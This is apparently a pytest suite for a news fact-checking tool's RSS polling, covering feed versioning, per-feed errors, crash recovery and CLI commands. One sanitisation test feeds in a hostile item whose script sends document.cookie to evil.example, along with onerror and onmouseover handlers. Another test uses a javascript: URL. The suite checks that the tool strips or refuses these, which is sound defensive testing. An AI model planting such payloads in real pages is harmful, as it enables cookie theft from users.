"""Polling end to end over a loopback server: fetch, parse, store, idempotence, versions, errors,
the eval corpus, crashes (SIGKILL) and the store's commands."""

from __future__ import annotations

import dataclasses
import importlib.util
import json
import os
import re
import signal
import subprocess
import sys
import time
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from feedserver import closed_port
from support import PROJECT_ROOT, eval_dir

from factcheck.cli import main as cli_main
from factcheck.polling import poll_all
from factcheck.store import Store


def item_xml(guid: str, title: str, body: str, *, link: str | None = None, day: int = 1) -> str:
    published = format_datetime(datetime(2024, 8, 1, tzinfo=UTC) + timedelta(days=day))
    link_xml = f"<link>{link}</link>" if link else ""
    return (
        f"<item><title>{title}</title>{link_xml}<guid isPermaLink='false'>{guid}</guid>"
        f"<pubDate>{published}</pubDate><content:encoded><![CDATA[{body}]]></content:encoded></item>"
    )


def rss(*items: str) -> str:
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"'
        ' xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>'
        "<title>WDMO 7</title><link>https://wdmo.example/</link>"
        + "".join(items)
        + "</channel></rss>"
    )


LONG = " The council will meet again next week to talk it over with residents and staff." * 6

STORIES = [
    item_xml(
        "s1", "Police seize guns", "<p>Police said they seized more than 1500 guns.</p>" + LONG
    ),
    item_xml("s2", "Budget passes", "<p>The council approved the budget.</p>" + LONG, day=2),
    item_xml("s3", "Storm totals", "<p>Rain fell across the county overnight.</p>" + LONG, day=3),
]


def db_rows(store: Store, sql: str, params=()) -> list[tuple]:
    # Test-side reads of the raw tables, to check invariants the library does not expose.
    with store.connect() as con:
        return con.execute(sql, list(params)).fetchall()


def assert_consistent(store: Store) -> None:
    """No half-written story: every story has versions 1..n, each with text."""
    bad = db_rows(
        store,
        "SELECT s.id FROM stories s LEFT JOIN story_versions v ON v.story_id = s.id"
        " GROUP BY s.id HAVING count(v.id) = 0 OR max(v.version) <> count(v.id)"
        "  OR bool_or(v.text IS NULL OR v.text = '')",
    )
    assert bad == []
    orphans = db_rows(
        store,
        "SELECT count(*) FROM story_versions v LEFT JOIN stories s ON s.id = v.story_id"
        " WHERE s.id IS NULL",
    )
    assert orphans == [(0,)]


# --- idempotence and versions -------------------------------------------------------------------


def test_same_poll_twice_gives_the_same_stories_once(tmp_store, feed_server, net_settings):
    with_etag = feed_server.serve("/etag.xml", rss(*STORIES), etag='"v1"')
    plain = feed_server.serve("/plain.xml", rss(*STORIES))
    tmp_store.add_feed(with_etag, "WDMO", "Springfield")
    tmp_store.add_feed(plain, "WXYZ", "Springfield")

    first = poll_all(tmp_store, None, net_settings)
    assert [(r.status, r.new, r.updated, r.unchanged) for r in first] == [("new", 3, 0, 0)] * 2
    assert first[0].line() == f"WDMO {with_etag}: 3 new, 0 updated, 0 unchanged"

    second = poll_all(tmp_store, None, net_settings)
    assert [r.status for r in second] == ["not-modified", "unchanged"]
    assert second[1].unchanged == 3
    assert feed_server.last_headers("/etag.xml")["if-none-match"] == '"v1"'
    assert second[0].line() == f"WDMO {with_etag}: not modified"

    counts = tmp_store.counts()
    assert counts["stories"] == 6 and counts["story_versions"] == 6
    assert len(db_rows(tmp_store, "SELECT * FROM polls")) == 2
    assert_consistent(tmp_store)


def test_changed_item_becomes_a_second_version(tmp_store, feed_server, net_settings):
    url = feed_server.serve("/feed.xml", rss(*STORIES), etag='"v1"')
    tmp_store.add_feed(url, "WDMO", "Springfield")
    poll_all(tmp_store, None, net_settings)
    # typography only: not a new version
    retyped = STORIES[0].replace("Police said", "Police  said").replace("guns.", "guns!")
    feed_server.serve("/feed.xml", rss(retyped, *STORIES[1:]), etag='"v2"')
    [same] = poll_all(tmp_store, None, net_settings)
    assert (same.status, same.unchanged) == ("unchanged", 3)
    # a real change: the number
    changed = STORIES[0].replace("1500", "1600")
    feed_server.serve("/feed.xml", rss(changed, *STORIES[1:]), etag='"v3"')
    [result] = poll_all(tmp_store, None, net_settings)
    assert (result.status, result.new, result.updated, result.unchanged) == ("updated", 0, 1, 2)
    versions = db_rows(
        tmp_store,
        "SELECT v.version, v.text FROM story_versions v JOIN stories s ON s.id = v.story_id"
        " WHERE s.guid = 's1' ORDER BY v.version",
    )
    assert [v for v, _ in versions] == [1, 2]
    assert "1500" in versions[0][1] and "1600" in versions[1][1]
    assert tmp_store.counts()["stories"] == 3
    summary = {r["guid"]: r for r in tmp_store.story_summaries()}
    assert summary["s1"]["versions"] == 2 and summary["s2"]["versions"] == 1
    assert_consistent(tmp_store)


def test_story_with_script_and_onerror_stored_as_text(tmp_store, feed_server, net_settings):
    hostile = item_xml(
        "x1",
        "Fire &lt;script&gt;alert('t')&lt;/script&gt; downtown",
        "<p>Crews answered the call.</p><script>fetch('https://evil.example/'+document.cookie)"
        "</script><img src=x onerror=\"alert('img')\"><p onmouseover='steal()'>All safe.</p>"
        "<style>body{display:none}</style>",
    )
    tmp_store.add_feed(feed_server.serve("/feed.xml", rss(hostile)), "WDMO", "Springfield")
    poll_all(tmp_store, None, net_settings)
    [(title, text)] = db_rows(tmp_store, "SELECT title, text FROM story_versions")
    assert text == "Crews answered the call.\n\nAll safe."
    assert title == "Fire downtown"
    for bad in ("script", "alert", "onerror", "cookie", "evil", "onmouseover", "display"):
        assert bad not in text and bad not in title


def test_teaser_gets_the_article_text(tmp_store, feed_server, net_settings):
    article = (
        "<html><body><nav>Home Weather Traffic</nav><article><h1>Crash closes I-65</h1>"
        + "".join(
            f"<p>Paragraph {i} of the full story about the crash on the interstate this morning,"
            " as troopers told reporters at the scene.</p>"
            for i in range(6)
        )
        + "</article></body></html>"
    )
    page = feed_server.serve("/news/crash", article, content_type="text/html; charset=utf-8")
    teaser = item_xml("t1", "Crash closes I-65", "A crash closed the road...", link=page)
    tmp_store.add_feed(feed_server.serve("/feed.xml", rss(teaser)), "WDMO", "Springfield")
    poll_all(tmp_store, None, net_settings)
    [(text,)] = db_rows(tmp_store, "SELECT text FROM story_versions")
    assert "Paragraph 5 of the full story" in text and "Weather Traffic" not in text
    assert feed_server.count("/news/crash") == 1
    poll_all(tmp_store, None, net_settings)  # unchanged teaser: the article is not fetched again
    assert feed_server.count("/news/crash") == 1


# --- bad input: each feed fails alone, with its error on its row --------------------------------


def test_failing_feeds_record_their_error_and_the_others_go_on(
    tmp_store, feed_server, net_settings
):
    feed_server.serve("/404.xml", b"nope", status=404)
    feed_server.serve("/500.xml", b"boom", status=500)
    feed_server.serve(
        "/page.html", b"<!DOCTYPE html><html><body>Home</body></html>", content_type="text/html"
    )
    feed_server.serve("/broken.xml", b"<rss><channel><item><title>x</titl")
    feed_server.serve("/slow.xml", rss(*STORIES), delay=2)
    feed_server.serve("/huge.xml", stream_size=50 * 1024 * 1024)
    feed_server.redirect("/loop-a", "/loop-b")
    feed_server.redirect("/loop-b", "/loop-a")
    good = feed_server.serve("/good.xml", rss(*STORIES))
    expected = {
        feed_server.url("/404.xml"): "HTTP 404",
        feed_server.url("/500.xml"): "HTTP 500",
        feed_server.url("/page.html"): "not a feed: got an HTML page",
        feed_server.url("/broken.xml"): "malformed feed",
        feed_server.url("/slow.xml"): "timed out",
        feed_server.url("/huge.xml"): "cap",
        feed_server.url("/loop-a"): "redirect loop",
        f"http://127.0.0.1:{closed_port()}/feed.xml": "cannot connect",
    }
    for url in expected:
        tmp_store.add_feed(url, "BAD", "Nowhere")
    tmp_store.add_feed(good, "WDMO", "Springfield")
    settings = dataclasses.replace(net_settings, read_timeout=0.5)

    results = {r.feed.url: r for r in poll_all(tmp_store, None, settings)}

    assert results[good].status == "new" and results[good].new == 3
    for url, reason in expected.items():
        assert results[url].status == "error", url
        assert reason in results[url].error, (url, results[url].error)
        assert results[url].line().startswith(f"BAD {url}: error: ")
    rows = {f.url: f for f in tmp_store.feeds()}
    for url, reason in expected.items():
        assert rows[url].last_status == "error" and reason in rows[url].last_error
        assert "\n" not in rows[url].last_error
    assert rows[good].last_status == "new" and rows[good].last_error is None
    assert tmp_store.counts()["stories"] == 3  # only the good feed's
    assert db_rows(tmp_store, "SELECT feeds, errors FROM polls") == [(9, 8)]


def test_loopback_feed_refused_without_allow_private(tmp_store, feed_server, strict_settings):
    url = feed_server.serve("/feed.xml", rss(*STORIES))
    tmp_store.add_feed(url, "WDMO", "Springfield")
    [result] = poll_all(tmp_store, None, strict_settings)
    assert result.status == "error" and "loopback" in result.error
    assert "FACTCHECK_ALLOW_PRIVATE" in result.error
    assert feed_server.count() == 0
    assert tmp_store.counts()["stories"] == 0


def test_every_eval_feed_through_fetch_parse_store(tmp_store, feed_server, net_settings):
    """Each feedparser test file, served with its own Content-Type header, goes through the whole
    path: no unhandled exception, no half-written story, and exactly the items the parser finds."""
    from factcheck.feeds import parse_feed

    root = eval_dir("feedparser")
    files = sorted(root.rglob("*.xml"))
    assert len(files) > 50
    expected: dict[str, int] = {}
    for n, path in enumerate(files):
        data = path.read_bytes()
        header = re.search(rb"Header:\s*Content-type:\s*([^\r\n]*)", data, re.IGNORECASE)
        content_type = header.group(1).decode("latin-1").strip() if header else "application/xml"
        url = feed_server.serve(f"/eval/{n}.xml", data, content_type=content_type)
        tmp_store.add_feed(url, f"E{n}", "Nowhere")
        expected[url] = len(parse_feed(data, content_type=content_type).items)

    results = poll_all(tmp_store, None, net_settings)  # must not raise

    assert len(results) == len(files)
    stored = dict(
        db_rows(
            tmp_store,
            "SELECT f.url, count(s.id) FROM feeds f LEFT JOIN stories s ON s.feed_id = f.id"
            " GROUP BY f.url",
        )
    )
    for r in results:
        assert r.status in ("new", "unchanged", "error")
        if r.status == "error":
            assert "\n" not in r.error and stored[r.feed.url] == 0
        assert stored[r.feed.url] == expected[r.feed.url], r.feed.url
    assert sum(r.status == "error" for r in results) > 5  # the ill-formed ones
    assert sum(stored.values()) > 10
    assert_consistent(tmp_store)
    # and a second round over the same files changes nothing
    again = poll_all(tmp_store, None, net_settings)
    assert sum(r.new + r.updated for r in again) == 0
    assert sum(stored.values()) == tmp_store.counts()["stories"]


def test_an_unexpected_failure_in_one_feed_is_recorded_and_the_rest_go_on(
    tmp_store, feed_server, net_settings
):
    _need("claims")
    steady = feed_server.serve("/steady.xml", rss(*STORIES))
    tmp_store.add_feed(steady, "STEADY", "Springfield")
    poll_all(tmp_store, None, net_settings)
    fresh = feed_server.serve("/fresh.xml", rss(item_xml("f1", "Fresh", "Fresh story." + LONG)))
    tmp_store.add_feed(fresh, "FRESH", "Springfield")
    # a pipeline that breaks on use: only the feed with new stories reaches it
    results = {r.feed.station: r for r in poll_all(tmp_store, "not a pipeline", net_settings)}
    assert results["FRESH"].status == "error" and "Error" in results["FRESH"].error
    assert results["STEADY"].status == "unchanged"
    stored = db_rows(
        tmp_store,
        "SELECT count(*) FROM stories s JOIN feeds f ON f.id = s.feed_id WHERE f.station = 'FRESH'",
    )
    assert stored == [(0,)]  # nothing half-written
    assert {f.station: f.last_status for f in tmp_store.feeds()} == {
        "STEADY": "unchanged",
        "FRESH": "error",
    }


# --- claims (real pipeline) -----------------------------------------------------------------------


def _need(module: str) -> None:
    if importlib.util.find_spec(f"factcheck.{module}") is None:
        pytest.skip(f"factcheck/{module}.py is not written yet (another part of the project)")


@pytest.fixture(scope="module")
def nlp():
    _need("claims")
    from factcheck import claims
    from factcheck.config import settings

    return claims.load_pipeline(settings().spacy_model)


def test_claims_extracted_and_checked_for_new_versions(tmp_store, feed_server, net_settings, nlp):
    _need("verify")
    url = feed_server.serve("/feed.xml", rss(*STORIES))
    tmp_store.add_feed(url, "WDMO", "Springfield")
    [result] = poll_all(tmp_store, nlp, net_settings)
    assert result.claims >= 1
    rows = db_rows(
        tmp_store,
        "SELECT c.text, c.start_char, c.end_char, c.seq, v.text, c.qualifier FROM claims c"
        " JOIN story_versions v ON v.id = c.version_id ORDER BY c.version_id, c.seq",
    )
    assert any(r[0] == "more than 1500" and r[5] == "more_than" for r in rows)
    for text, start, end, _seq, version_text, _q in rows:
        assert version_text[start:end] == text  # offsets into the stored version text
    checked = db_rows(tmp_store, "SELECT count(*) FROM checks WHERE mode = 'aired'")[0][0]
    assert checked == len(rows)  # every new claim got its as-aired check in the same round
    summary = {r["guid"]: r for r in tmp_store.story_summaries()}
    assert sum(summary["s1"]["verdicts"].values()) == summary["s1"]["claims"] >= 1


# --- crashes ------------------------------------------------------------------------------------

WORKER = """
import sys, time
from contextlib import contextmanager
sys.path.insert(0, {root!r})
from factcheck.config import settings
from factcheck.polling import poll_all
from factcheck.store import Store

class TracingStore(Store):
    # Says on stdout when a write transaction is open, so a test can kill inside it.
    @contextmanager
    def transaction(self):
        with super().transaction() as con:
            print("begin", flush=True)
            yield con
            print("work done, committing", flush=True)  # a kill before this line is mid-write

s = settings()
def show(i, n, feed, result):
    if result is not None:
        print(result.line(), flush=True)
poll_all(TracingStore(s.db_path, lock_wait=s.lock_wait), None, s, show)
"""


def _worker(db_path: Path) -> subprocess.Popen:
    """A poll in its own process (no spaCy: the crash-safety of the store is what is tested)."""
    env = {**os.environ, "FACTCHECK_DB": str(db_path), "FACTCHECK_ALLOW_PRIVATE": "1"}
    return subprocess.Popen(
        [sys.executable, "-c", WORKER.format(root=str(PROJECT_ROOT))],
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


def _wait_for(predicate, timeout: float = 20.0) -> None:
    deadline = time.monotonic() + timeout
    while not predicate():
        if time.monotonic() > deadline:
            raise AssertionError("timed out waiting")
        time.sleep(0.02)


def test_sigkill_between_feeds_then_rerun(db_path, feed_server):
    store = Store(db_path)
    fast = feed_server.serve("/fast.xml", rss(*STORIES))
    slow = feed_server.serve(
        "/slow.xml", rss(item_xml("z1", "Late", "late story" + LONG)), delay=30
    )
    store.add_feed(fast, "FAST", "Springfield")
    store.add_feed(slow, "SLOW", "Springfield")

    proc = _worker(db_path)
    # waiting on the slow feed, the fast one (fetched beside it) already committed
    _wait_for(lambda: feed_server.count("/slow.xml") == 1 and store.counts()["stories"] == 3)
    proc.send_signal(signal.SIGKILL)
    proc.wait(timeout=10)
    assert proc.returncode == -signal.SIGKILL

    # the store opens; the first feed's round was committed whole, the second left no trace
    assert store.counts()["stories"] == 3
    assert_consistent(store)
    assert {f.station: f.last_status for f in store.feeds()} == {"FAST": "new", "SLOW": None}

    feed_server.serve("/slow.xml", rss(item_xml("z1", "Late", "late story" + LONG)))
    proc = _worker(db_path)
    out, err = proc.communicate(timeout=60)
    assert proc.returncode == 0, err
    assert "FAST" in out and "SLOW" in out and "1 new" in out
    assert store.counts()["stories"] == 4 and store.counts()["story_versions"] == 4
    assert db_rows(store, "SELECT count(*), count(DISTINCT (feed_id, guid)) FROM stories") == [
        (4, 4)
    ]
    assert_consistent(store)


def test_sigkill_during_the_write_is_all_or_nothing(tmp_path, feed_server):
    """Kill the poller inside its one write transaction for a feed of 400 stories, at several
    moments; each time the store opens with all of the feed's stories or none, and a rerun
    completes with no duplicates."""
    big = rss(*(item_xml(f"b{i}", f"Story {i}", f"Text of story {i}." + LONG) for i in range(400)))
    url = feed_server.serve("/big.xml", big)
    outcomes = []
    for n, delay in enumerate((0.0, 0.01, 0.05, 0.2)):
        db_path = tmp_path / f"kill{n}.duckdb"
        store = Store(db_path)
        store.add_feed(url, "BIG", "Springfield")
        proc = _worker(db_path)
        assert proc.stdout.readline().strip() == "begin"  # the feed's transaction is open
        time.sleep(delay)
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=10)
        rest = proc.stdout.read()
        inside = "work done" not in rest  # killed before the round's work was all written
        stories = store.counts()["stories"]
        assert stories in (0, 400), stories
        if inside:
            assert stories == 0  # killed before the commit: nothing of the round is there
        assert_consistent(store)
        outcomes.append((delay, inside, stories))
        rerun = _worker(db_path)
        _out, err = rerun.communicate(timeout=120)
        assert rerun.returncode == 0, err
        assert store.counts()["stories"] == store.counts()["story_versions"] == 400
        assert_consistent(store)
    assert any(inside for _, inside, _ in outcomes)  # at least one kill landed mid-write
    print("kill delay, inside the transaction, stories after the kill:", outcomes)


def test_store_opens_after_a_kill_with_a_stale_wal(db_path):
    """A process killed with the store open leaves a write-ahead log; the next open replays it."""
    Store(db_path).add_feed("https://a.example/r", "A", "P")
    proc = subprocess.run(
        [sys.executable, "-c", KILL_WITH_OPEN_STORE, str(PROJECT_ROOT), str(db_path)],
        capture_output=True,
        timeout=60,
    )
    assert proc.returncode == -signal.SIGKILL, proc.stderr
    store = Store(db_path)
    assert [f.station for f in store.feeds()] == ["B"]  # autocommitted, then recovered from WAL


KILL_WITH_OPEN_STORE = """
import os, signal, sys
sys.path.insert(0, sys.argv[1])
import duckdb
con = duckdb.connect(sys.argv[2])
con.execute("UPDATE feeds SET station = 'B'")
os.kill(os.getpid(), signal.SIGKILL)
"""


# --- the store's commands -----------------------------------------------------------------------


def test_add_feed_refuses_file_url_and_reads_nothing(db_path, tmp_path, opened_files):
    secret = tmp_path / "feed.xml"
    secret.write_text(rss(*STORIES))
    opened_files.clear()
    runner = CliRunner()
    for url in (secret.as_uri(), str(secret), "ftp://127.0.0.1/feed.xml", "javascript:alert(1)"):
        result = runner.invoke(cli_main, ["add-feed", url, "--station", "X", "--place", "Y"])
        assert result.exit_code != 0
        assert "only http:// and https://" in result.output
        assert len(result.output.strip().splitlines()) == 1
    assert not [p for p in opened_files if p.endswith("feed.xml")]  # never opened
    secret.read_text()
    assert str(secret) in opened_files  # (the recorder does see an open)
    assert Store(db_path).feeds() == []


def test_add_feed_refuses_a_loopback_address_unless_allowed(db_path, monkeypatch):
    runner = CliRunner()
    args = ["--station", "LOCAL", "--place", "Springfield"]
    monkeypatch.delenv("FACTCHECK_ALLOW_PRIVATE", raising=False)
    for url in ("http://127.0.0.1:8080/rss", "http://[::1]/rss", "http://localhost/rss"):
        refused = runner.invoke(cli_main, ["add-feed", url, *args])
        assert refused.exit_code != 0 and "FACTCHECK_ALLOW_PRIVATE=1" in refused.output
    assert Store(db_path).feeds() == []
    monkeypatch.setenv("FACTCHECK_ALLOW_PRIVATE", "1")
    added = runner.invoke(cli_main, ["add-feed", "http://127.0.0.1:8080/rss", *args])
    assert added.exit_code == 0, added.output
    assert [f.url for f in Store(db_path).feeds()] == ["http://127.0.0.1:8080/rss"]


def test_add_feed_duplicate_is_refused_and_store_unchanged(db_path):
    runner = CliRunner()
    ok = runner.invoke(
        cli_main,
        ["add-feed", "https://wdmo.example/rss", "--station", "WDMO 7", "--place", "Springfield"],
    )
    assert ok.exit_code == 0 and "added feed 1" in ok.output
    dup = runner.invoke(
        cli_main, ["add-feed", "https://wdmo.example/rss", "--station", "Other", "--place", "Z"]
    )
    assert dup.exit_code != 0 and "already registered" in dup.output
    assert len(dup.output.strip().splitlines()) == 1
    assert [(f.station, f.place) for f in Store(db_path).feeds()] == [("WDMO 7", "Springfield")]


def test_poll_and_stories_commands(db_path, feed_server, allow_private):
    _need("claims")
    _need("verify")
    runner = CliRunner()
    good = feed_server.serve("/feed.xml", rss(*STORIES))
    bad = feed_server.serve("/gone.xml", b"gone", status=404)
    for url, station in ((good, "WDMO"), (bad, "GONE")):
        assert (
            runner.invoke(
                cli_main, ["add-feed", url, "--station", station, "--place", "S"]
            ).exit_code
            == 0
        )
    first = runner.invoke(cli_main, ["poll"])
    assert first.exit_code == 0, first.output  # a failing feed does not fail the command
    assert f"WDMO {good}: 3 new, 0 updated, 0 unchanged" in first.output
    assert f"GONE {bad}: error: HTTP 404" in first.output
    second = runner.invoke(cli_main, ["poll"])
    assert f"WDMO {good}: 0 new, 0 updated, 3 unchanged" in second.output
    listed = runner.invoke(cli_main, ["stories", "--format", "jsonl"])
    assert listed.exit_code == 0
    rows = [json.loads(line) for line in listed.output.splitlines()]
    assert len(rows) == 3
    for row in rows:
        assert {
            "id",
            "station",
            "title",
            "url",
            "published",
            "versions",
            "claims",
            "verdicts",
        } <= set(row)
        assert row["station"] == "WDMO" and row["versions"] == 1
    guns = next(r for r in rows if r["title"] == "Police seize guns")
    assert guns["claims"] >= 1 and sum(guns["verdicts"].values()) == guns["claims"]
    assert guns["published"].startswith("2024-08-02")


def test_poll_every_survives_a_failing_round_and_stops_on_sigterm(db_path, feed_server):
    """`poll --every` as a service: a round that cannot get the store (another process holds it
    past FACTCHECK_LOCK_WAIT) is logged on stderr, the next round runs, SIGTERM ends it cleanly."""
    _need("claims")
    _need("verify")
    store = Store(db_path, lock_wait=20)
    store.add_feed(feed_server.serve("/feed.xml", rss(*STORIES)), "WDMO", "Springfield")
    env = {
        **os.environ,
        "FACTCHECK_DB": str(db_path),
        "FACTCHECK_ALLOW_PRIVATE": "1",
        "FACTCHECK_LOCK_WAIT": "0.3",
    }
    poller = subprocess.Popen(
        [sys.executable, "-m", "factcheck", "poll", "--every", "0.003"],
        cwd=PROJECT_ROOT,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        _wait_for(lambda: feed_server.count("/feed.xml") >= 1, timeout=60)
        held = store._open()  # what a long-running writer elsewhere would do
        try:
            time.sleep(1.5)  # several of the poller's rounds find the store busy
        finally:
            held.close()
        after = feed_server.count("/feed.xml")
        _wait_for(lambda: feed_server.count("/feed.xml") >= after + 2, timeout=30)
        assert poller.poll() is None
    finally:
        poller.send_signal(signal.SIGTERM)
        out, err = poller.communicate(timeout=30)
    assert poller.returncode == 0, err
    assert "poll round failed: StoreBusy" in err
    assert "stopping after the current feed (SIGTERM)" in err
    assert out.count("WDMO ") >= 2  # rounds before and after the failed ones
    assert store.counts()["stories"] == 3
    assert_consistent(store)


# --- rounds: bundled feeds and threads ----------------------------------------------------------


def test_bundled_demo_feed_is_not_fetched(tmp_store, feed_server, net_settings):
    from factcheck import store as store_mod

    url = feed_server.serve("/feed.xml", rss(*STORIES))
    tmp_store.add_feed(url, "WDMO", "Springfield")
    with tmp_store.transaction() as con:
        store_mod.demo_add_feed(con, "demo:wdmo7", "WDMO 7 (Demo)", "Birmingham")
    results = {r.feed.url: r for r in poll_all(tmp_store, None, net_settings)}
    assert results["demo:wdmo7"].status == "bundled"
    assert results["demo:wdmo7"].line().endswith("bundled demo feed, not fetched")
    assert results[url].status == "new"  # the real feed next to it is polled as usual
    feeds = {f.url: f for f in tmp_store.feeds()}
    assert feeds["demo:wdmo7"].last_error is None


def test_a_follow_up_joins_its_story_thread_in_the_same_round(tmp_store, feed_server, net_settings):
    first = item_xml(
        "p1",
        "Council weighs Ensley library repairs",
        "<p>The council weighed repairs to the Ensley library roof.</p>" + LONG,
        day=1,
    )
    unrelated = item_xml(
        "p2", "Storm totals", "<p>Rain fell across the county overnight.</p>" + LONG, day=2
    )
    url = feed_server.serve("/feed.xml", rss(first, unrelated))
    tmp_store.add_feed(url, "WDMO", "Springfield")
    poll_all(tmp_store, None, net_settings)
    follow_up = item_xml(
        "p3",
        "Ensley library repairs approved",
        "<p>In a follow-up to our earlier report, the council approved the library repairs.</p>"
        + LONG,
        day=9,
    )
    feed_server.serve("/feed.xml", rss(first, unrelated, follow_up))
    poll_all(tmp_store, None, net_settings)
    threads = dict(db_rows(tmp_store, "SELECT guid, thread_id FROM stories"))
    assert threads["p1"] is not None and threads["p1"] == threads["p3"]
    assert threads["p2"] is None
